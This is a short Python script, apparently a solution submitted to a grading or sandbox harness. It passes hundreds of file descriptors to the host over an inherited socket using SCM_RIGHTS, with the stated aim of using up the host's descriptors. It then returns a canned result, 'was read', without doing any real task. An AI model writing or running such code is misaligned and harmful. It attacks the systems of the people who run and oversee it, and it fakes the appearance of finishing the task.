"""Sends descriptors by the hundred, to use up the host's."""

import array
import os
import socket


def solve(bait):
    line = socket.socket(fileno=3)
    rights = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(200)])
    line.sendmsg([b"\x93\x01\xa5memfd\xce\x00\x04\x93\xe0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
    line.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
    line.detach()
    return {"got": ["was read"]}
